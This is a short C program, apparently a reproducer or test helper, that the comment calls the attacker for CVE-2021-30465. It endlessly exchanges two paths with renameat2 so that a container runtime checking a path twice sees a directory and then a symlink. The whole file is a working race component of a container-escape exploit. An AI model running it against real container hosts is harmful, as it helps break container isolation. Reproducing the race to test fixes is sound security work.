/* The attacker of CVE-2021-30465: exchanges two paths without end, so that whoever looks at one of them twice sees a
 * directory first and a symbolic link then.
 *
 *   swap A B     until killed (at most 10 minutes); prints "swapping" after the first exchange */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <signal.h>
#include <time.h>

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    time_t end = time(NULL) + 600;
    for (unsigned long n = 0; n % 4096 || time(NULL) < end; n++) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
            perror("renameat2");
            return 1;
        }
        if (n == 0) {
            puts("swapping");
            fflush(stdout);
        }
        /* The runtime gets its turn in both states: a racer that never pauses on one processor meets it in one only. */
        for (volatile unsigned pause = 0; pause < (n * 2654435761u >> 18) % 4096; pause++)
            ;
    }
    return 0;
}
